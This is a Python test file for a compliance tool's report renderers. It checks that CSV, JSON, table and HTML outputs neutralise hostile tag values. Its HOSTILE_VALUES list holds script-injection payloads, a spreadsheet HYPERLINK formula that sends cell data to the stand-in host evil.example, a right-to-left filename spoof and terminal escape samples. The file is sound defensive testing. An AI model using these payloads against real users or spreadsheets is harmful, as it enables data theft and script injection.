"""Renderers of reports and query results: hostile values come out neutralised and otherwise unchanged."""

from __future__ import annotations

import csv
import io
import json
from html.parser import HTMLParser
from typing import Any

from hypothesis import given
from hypothesis import strategies as st

from workflow.render import (
    FORMULA_PREFIXES,
    UNOWNED,
    group_by_owner,
    neutralise_cell,
    printable,
    report_csv,
    report_html,
    report_json,
    report_table,
    rows_csv,
    rows_json,
    rows_table,
    to_json_text,
)

HOSTILE_VALUES = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    "quote \" and ' apostrophe",
    "line one\nline two\r\nthree",
    "invoice\u202egpj.exe",
    '=HYPERLINK("http://evil.example/?x="&A1,"click me")',
    "+SUM(1,2)",
    "-2+3",
    "@cmd",
    "\tindented",
    "\rcarriage",
    "[bold red]markup[/bold red] [link=http://evil.example]x[/link]",
    "plain café ✓",
]


def finding(instance_id: str, owner: str | None, *, compliant: bool = False, **tags: str) -> dict[str, Any]:
    return {
        "instance_id": instance_id,
        "region": "eu-west-1",
        "account_id": "111122223333",
        "state": "running",
        "launch_time": "2026-01-01T00:00:00+00:00",
        "instance_type": "t3.micro",
        "name": tags.get("Name"),
        "owner": owner,
        "tags": {"Owner": owner or "", **tags},
        "compliant": compliant,
        "exempt": False,
        "in_grace_period": False,
        "violations": []
        if compliant
        else [
            {"code": "pattern_mismatch", "key": "Owner", "value": owner, "message": f"bad owner {owner!r}"}
        ],
        "run_id": "r1",
        "evaluated_at": "2026-01-02T03:04:05+00:00",
        "policy_name": "baseline",
    }


def summary(run_id: str = "r1", percentage: float = 50.0, noncompliant: int = 1) -> dict[str, Any]:
    return {
        "run_id": run_id,
        "evaluated_at": "2026-01-02T03:04:05+00:00",
        "policy": {"name": "baseline", "sha256": "ab" * 32},
        "totals": {
            "total": 2,
            "compliant": 2 - noncompliant,
            "noncompliant": noncompliant,
            "exempt": 0,
            "in_grace_period": 0,
            "compliance_percentage": percentage,
        },
        "by_rule": {"Owner:pattern_mismatch": noncompliant},
        "by_region": {"eu-west-1": {"compliant": 2 - noncompliant, "noncompliant": noncompliant}},
        "drift": {"previous_run_id": None, "newly_noncompliant": None, "newly_compliant": None},
    }


def read_csv(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def restore(cell: str) -> str:
    """What the neutralising apostrophe hides: the original value."""
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_PREFIXES) else cell


# -- CSV -----------------------------------------------------------------------------------------


def test_csv_prefixes_every_formula_cell_with_an_apostrophe_and_keeps_the_rest() -> None:
    text = rows_csv(["value"], [(v,) for v in HOSTILE_VALUES])
    cells = [row[0] for row in read_csv(text)[1:]]
    for value, cell in zip(HOSTILE_VALUES, cells, strict=True):
        if value.startswith(FORMULA_PREFIXES):
            assert cell == "'" + value
        else:
            assert cell == value
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)


@given(st.lists(st.text(), min_size=1, max_size=5))
def test_csv_cells_round_trip_once_the_apostrophe_is_removed(values: list[str]) -> None:
    text = rows_csv([f"c{i}" for i in range(len(values))], [values])
    [header, row] = read_csv(text)
    assert len(header) == len(values)
    assert [restore(c) for c in row] == values
    assert not any(c.startswith(FORMULA_PREFIXES) for c in row)


def test_report_csv_neutralises_tag_values_and_names_in_every_column() -> None:
    findings = [finding(f"i-{i}", value, Name=value, Team=value) for i, value in enumerate(HOSTILE_VALUES)]
    rows = read_csv(report_csv(findings))
    header, body = rows[0], rows[1:]
    assert len(body) == len(HOSTILE_VALUES)
    for value, row in zip(HOSTILE_VALUES, body, strict=True):
        record = dict(zip(header, row, strict=True))
        assert restore(record["owner"]) == value and restore(record["name"]) == value
        assert json.loads(record["tags"]) == {"Owner": value, "Name": value, "Team": value}
        assert record["violation_codes"] == "Owner:pattern_mismatch"
        assert all(not cell.startswith(FORMULA_PREFIXES) for cell in row)


def test_neutralise_cell_leaves_ordinary_values_alone() -> None:
    assert neutralise_cell("ana@example.com") == "ana@example.com"
    assert neutralise_cell("a=b") == "a=b"
    assert neutralise_cell("") == ""


# -- JSON ----------------------------------------------------------------------------------------


@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(),
        lambda c: st.lists(c) | st.dictionaries(st.text(), c),
        max_leaves=12,
    )
)
def test_json_round_trips_every_value_exactly(document: Any) -> None:
    assert json.loads(to_json_text(document)) == document


def test_json_writes_bidirectional_and_separator_characters_as_escapes() -> None:
    text = rows_json(["v"], [(v,) for v in HOSTILE_VALUES])
    assert "\u202e" not in text and "\\u202e" in text
    assert [row["v"] for row in json.loads(text)] == HOSTILE_VALUES
    report = report_json(summary(), [finding("i-1", "evil\u2028owner\u200f")])
    assert "\u2028" not in report and "\u200f" not in report
    assert json.loads(report)["findings"][0]["owner"] == "evil\u2028owner\u200f"


# -- table ---------------------------------------------------------------------------------------


def test_table_prints_markup_as_text_and_control_characters_as_escapes() -> None:
    text = rows_table(["value"], [(v,) for v in HOSTILE_VALUES], width=200)
    assert "[bold red]markup[/bold red]" in text
    assert "[link=http://evil.example]x[/link]" in text
    assert "invoice\\u202egpj.exe" in text and "\u202e" not in text
    assert "line one\\nline two\\r\\nthree" in text
    assert "plain café ✓" in text


def test_printable_escapes_only_what_a_terminal_would_act_on() -> None:
    assert printable("ok é ✓ 日本") == "ok é ✓ 日本"
    assert printable("\x1b[31mred") == "\\x1b[31mred"
    assert printable("a\u2066b\u2069c\u200b") == "a\\u2066b\\u2069c\\u200b"


def test_report_table_groups_noncompliant_instances_by_owner() -> None:
    findings = [
        finding("i-1", "bo@example.com"),
        finding("i-2", "bo@example.com"),
        finding("i-3", None),
        finding("i-4", "ana@example.com", compliant=True),
    ]
    text = report_table(summary(noncompliant=3), findings, width=160)
    assert text.index("bo@example.com (2 noncompliant)") < text.index(f"{UNOWNED} (1 noncompliant)")
    assert "ana@example.com" not in text
    assert "Owner:pattern_mismatch" in text


def test_group_by_owner_puts_blank_owners_under_no_owner_and_sorts_by_count() -> None:
    groups = group_by_owner(
        [
            finding("i-2", "b"),
            finding("i-1", "b"),
            finding("i-3", "  "),
            finding("i-4", "a"),
            finding("i-5", "a"),
        ]
    )
    assert [(owner, [f["instance_id"] for f in members]) for owner, members in groups] == [
        ("a", ["i-4", "i-5"]),
        ("b", ["i-1", "i-2"]),
        (UNOWNED, ["i-3"]),
    ]


# -- HTML ----------------------------------------------------------------------------------------


class Page(HTMLParser):
    """Tags seen, and the text inside each <bdi> (where every value of the report goes)."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.values: list[str] = []
        self._depth = 0
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        if tag == "bdi":
            self._depth += 1
            self.values.append("")

    def handle_endtag(self, tag: str) -> None:
        if tag == "bdi":
            self._depth -= 1

    def handle_data(self, data: str) -> None:
        if self._depth:
            self.values[-1] += data


def test_report_html_shows_every_hostile_value_as_text_never_as_markup() -> None:
    findings = [finding(f"i-{i}", value, Name=value) for i, value in enumerate(HOSTILE_VALUES)]
    page = report_html(summary(noncompliant=len(findings)), findings)
    parsed = Page(page)
    assert not {"script", "img", "a", "iframe", "object"} & set(parsed.tags)
    for value in HOSTILE_VALUES:
        assert parsed.values.count(value) >= 2  # the owner heading and the name cell
    assert "<script" not in page and "onerror=" not in page.replace("onerror=&quot;", "")
    assert 'http-equiv="Content-Security-Policy"' in page


@given(st.text(min_size=1))
def test_report_html_round_trips_any_owner_through_the_dom(owner: str) -> None:
    parsed = Page(report_html(summary(), [finding("i-1", owner, Name=owner)]))
    assert not {"script", "img"} & set(parsed.tags)
    expected = owner if owner.strip() else UNOWNED
    normalised = expected.replace("\r\n", "\n").replace("\r", "\n")
    assert normalised in [v.replace("\r\n", "\n").replace("\r", "\n") for v in parsed.values]


def test_report_html_draws_a_trend_only_when_several_runs_exist() -> None:
    one = report_html(summary(), [finding("i-1", "a")], history=[summary()])
    assert "Compliance trend" not in one and 'class="trend"' not in one
    history = [summary("r0", 40.0, 2), summary("r1", 50.0, 1), summary("<r2>", 100.0, 0)]
    many = report_html(history[-1], [], history=history)
    assert "Compliance trend (3 runs)" in many
    assert many.count('class="point"') == 3 and many.count('class="noncompliant-bar"') == 3
    assert "&lt;r2&gt;" in many and "<r2>" not in many
    assert "None: every evaluated instance is compliant." in many
